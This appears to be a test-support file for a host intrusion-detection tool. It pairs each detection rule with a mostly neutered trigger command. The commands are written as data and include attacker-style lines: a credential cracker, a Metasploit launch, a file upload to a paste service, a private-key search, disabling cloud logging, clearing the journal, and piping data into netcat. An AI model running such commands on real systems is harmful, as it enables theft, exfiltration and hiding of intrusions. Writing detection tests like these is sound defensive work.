"""Triggers of mozu's own rules on the host about intruders' tools and about what intruders look for, pack and send."""

import re
from typing import Final

from tests.support.triggers import Trigger

INTRUSIONS_NAMED: Final = (
    ("Password cracker or credential dumper started", "hydra -l root x"),
    ("Privilege escalation scanner started", "pspy64"),
    ("Attack framework started", "msfconsole -q"),
    ("systemd unit started from a world-writable directory", "systemctl link /tmp/perch.service"),
    ("File sent to a messaging or paste service", "curl -T x https://0x0.st"),
    ("Journal cleared by a command", "journalctl --vacuum-time=1s"),
    ("Root-equivalent capability set on a file", "setcap cap_setuid=ep x"),
    ("Private keys searched for on the whole host", "find / -name id_rsa"),
    ("Cloud logging disabled", "aws cloudtrail stop-logging"),
    ("Password passed to a login by a program", "sshpass -e x"),
    ("Connections redirected through a local proxy", "torsocks x"),
    ("Obsolete network client used", "telnet 198.51.100.1 8081"),
    ("Files in a world-writable directory copied to or from another host", "scp /tmp/x perch:/srv"),
    ("Archive created of homes, logs or settings, or in a world-writable directory", "zip /tmp/x.zip x"),
    ("File split into pieces", "split -b 9 /tmp/x"),
    ("Keyboard or pointer device read", "xinput test 9"),
    ("System clock set by hand", "date 010100002026"),
    ("Firewall changed by hand", "ufw allow 4444"),
    ("Security services searched for", "pgrep -l auditd"),
    ("Network directory or shares listed", "ldapsearch -x"),
    ("Browser stores searched for", "find /srv -name logins.json"),
    ("Host details read by a tool", "date -u"),
    ("Directory accounts changed by a tool", "ldapadd -f x"),
    ("Cloud account changed by a command", "aws iam create-user"),
    ("Browser started with an unpacked extension", "chromium --load-extension=x"),
    ("Executable packer started", "upx -9 x"),
)
"""Rules, each with a command whose name and arguments are enough."""


def _copied(rule: str, name: str, act: str, by: str = "") -> Trigger:
    """Return a trigger in which a program of this name does nothing."""
    return Trigger(rule, by or name, f"cp /bin/true $TMP/{name}; {act}; true")


INTRUSIONS: Final = (
    Trigger(
        "Program named like a service in a world-writable directory",
        "crond",
        "cp /bin/true /tmp/crond; /tmp/crond; rm /tmp/crond",
        {"proc.exepath": "/tmp/crond"},
    ),
    Trigger(
        "Encoded code run by an interpreter's argument",
        "python3",
        ("$PYTHON", "-c", "import base64; exec(base64.b64decode(''))"),
    ),
    Trigger(
        "Shell started by code on a command line",
        re.compile("^(da)?sh$"),
        ("$PYTHON", "-c", "import subprocess\nsubprocess.run(['sh'])"),
    ),
    Trigger(
        "Shell started by a shell's argument",
        re.compile("^(da)?sh$"),
        ("find", "$TMP", "-maxdepth", "0", "-exec", "sh", "-c", "sh", ";"),
        {"proc.pname": "find"},
    ),
    _copied("busybox started as a shell or a network tool", "busybox", "$TMP/busybox wget x"),
    _copied(
        "Host details saved in a world-writable directory",
        "whoami",
        "$TMP/whoami > /tmp/mozu-perch; rm /tmp/mozu-perch",
    ),
    Trigger(
        "Command-line code that names accounts, keys or histories",
        "python3",
        ("$PYTHON", "-c", "'/etc/passwd'"),
    ),
    Trigger(
        "Compressed or encoded data piped into a connection",
        re.compile("^(nc|base64)$"),
        "cp /bin/true $TMP/nc; base64 /dev/null | $TMP/nc perch 1; true",
    ),
    _copied("Virtual machine detection through hardware details", "grep", "true | $TMP/grep qemu"),
    _copied("Ping used as a delay", "ping", "$TMP/ping -c 250 x > /dev/null"),
    Trigger(
        "Host stopped through SysRq",
        "python3",
        (
            *("$PYTHON", "-c"),
            "import os\nos.makedirs('$TMP/stopped/proc', exist_ok=True)\n"
            "os.chroot('$TMP/stopped')\n"
            "open('/proc/sysrq-trigger', 'w')",
        ),
        {"fd.name": "/proc/sysrq-trigger"},
    ),
    Trigger(
        "Password or sudo policy read by a tool",
        "cat",
        (
            "unshare",
            "--mount",
            "sh",
            "-c",
            "mkdir $TMP/rules; mount --bind $TMP/rules /etc && : > /etc/login.defs && cat /etc/login.defs; true",
        ),
        {"fd.name": "/etc/login.defs"},
    ),
    Trigger(
        "Identity commands run as a service account",
        "whoami",
        (
            "sh",
            "-c",
            "echo 4294967295 > /proc/self/loginuid; setpriv --reuid=33 --clear-groups sh -c 'whoami; true'; true",
        ),
    ),
)
